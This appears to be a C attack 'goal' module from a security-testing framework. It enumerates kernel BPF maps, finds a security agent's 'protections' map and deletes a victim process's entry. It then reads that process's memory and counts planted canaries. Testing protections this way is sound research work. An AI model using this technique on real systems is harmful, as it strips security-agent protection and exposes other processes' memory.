/* SPDX-License-Identifier: Apache-2.0 */
/* A goal: the agent's map of protected processes. Without its mark a victim is free to read. */
#define _GNU_SOURCE
#include <linux/bpf.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#include "combination.h"

#define MAPS_MAX 256
#define MAPS_OF "protections"

static long bpf(int command, union bpf_attr *attributes)
{
	return syscall(SYS_bpf, command, attributes, sizeof(*attributes));
}

/* The id of the map at a place in the kernel's order; 0 behind the last one. */
static __u32 id_at(long place)
{
	union bpf_attr next = { 0 };

	for (long i = 0; i <= place; i++) {
		if (bpf(BPF_MAP_GET_NEXT_ID, &next))
			return 0;
		next.start_id = next.next_id;
	}
	return next.start_id;
}

/* No name is known before a map is open: each is tried. */
static long maps(void)
{
	long count = 0;

	while (count < MAPS_MAX && id_at(count))
		count++;
	return count;
}

static long open_map(void)
{
	union bpf_attr asked = { .map_id = id_at(common->round) };

	lay(&(struct image){ &asked, sizeof(asked), offsetof(union bpf_attr, map_id), 0x7fffffff });
	if (parts.is_narrow)
		return call_narrow(357, BPF_MAP_GET_FD_BY_ID, (long)arguments_page, sizeof(asked), 0, 0);
	return syscall(SYS_bpf, BPF_MAP_GET_FD_BY_ID, arguments_page, sizeof(asked));
}

static int is_map_of_marks(int fd)
{
	struct bpf_map_info info = { 0 };
	union bpf_attr asked = { .info = { fd, sizeof(info), (unsigned long)&info } };

	return bpf(BPF_OBJ_GET_INFO_BY_FD, &asked) == 0 && strcmp(info.name, MAPS_OF) == 0;
}

static long take_mark(int fd)
{
	int pidfd = syscall(SYS_pidfd_open, quarry.pid, 0);
	union bpf_attr asked = { .map_fd = fd, .key = (unsigned long)&pidfd };
	struct iovec own = { common->booty, PAGE_BYTES };
	struct iovec other = { (void *)quarry.address, PAGE_BYTES };
	long result = -1;

	if (is_map_of_marks(fd) && bpf(BPF_MAP_DELETE_ELEM, &asked) == 0)
		result = process_vm_readv(quarry.pid, &own, 1, &other, 1, 0);
	drop(pidfd);
	return result > 0 ? count_canaries(common->booty, PAGE_BYTES) : 0;
}

const struct goal kernel_goals[] = {
	{ "maps", NULL, open_map, take_mark, 0, maps },
	{ 0 },
};
